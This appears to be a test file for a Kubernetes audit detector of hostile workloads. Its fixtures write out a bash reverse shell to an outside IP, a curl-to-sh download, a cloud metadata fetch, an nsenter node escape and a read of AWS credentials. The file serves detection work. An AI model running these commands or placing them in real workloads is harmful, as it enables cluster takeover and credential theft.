import { hostileWorkload } from '../../../lib/detectors/hostile-workload.ts';
import { testActs } from './verdicts.ts';

const run = (command: unknown, given = {}) => ({ verb: 'create', resource: 'pods', namespace: 'shop', name: 'cart', body: { spec: { containers: [{ image: 'x', command }] } }, ...given });
const as = (serviceAccountName: unknown) => ({ body: { spec: { serviceAccountName } } });

testActs(hostileWorkload, {
  hits: [
    ['a shell to somewhere else', run(['bash', '-c', 'bash -i >& /dev/tcp/203.0.113.9/443 0>&1']), ['remote-shell: shop']],
    ['the metadata service of the node', run(['wget', '-qO-', '169.254.169.254']), ['metadata: shop']],
    ['a way out to the node', run(['nsenter', '-t', '1', '-m', 'sh']), ['escape: shop']],
    ['credentials read within a Deployment', run([], { resource: 'apps/deployments', body: { spec: { template: { spec: { containers: [{ args: ['cat', '/root/.aws/credentials'] }] } } } } }), ['credentials: shop']],
    ['a download', run(['sh', '-c', 'curl -s https://203.0.113.9/x | sh']), ['download: shop']],
    ['a name of a tool', run([], { name: 'peirates' }), ['tool: shop']],
    ['a borrowed name', run([], { name: 'kube-proxy-x' }), ['borrowed-name: shop']],
    ['a controller\'s identity', run([], { namespace: 'kube-system', ...as('clusterrole-aggregation-controller') }), ['controller: kube-system']],
  ],
  misses: [
    ['an ordinary command', run(['node', 'server.js'])],
    ['a part of the cluster at its place', run([], { namespace: 'kube-system', name: 'kube-proxy-x' })],
    ['a controller\'s name elsewhere', run([], as('ingress-controller'))],
    ['a refused one', run(['nsenter', '-t', '1'], { outcome: 'refused', code: 403 })],
    ['a command of another type', run('nsenter -t 1')],
    ['one whose body was not kept', run([], { body: undefined })],
  ],
});
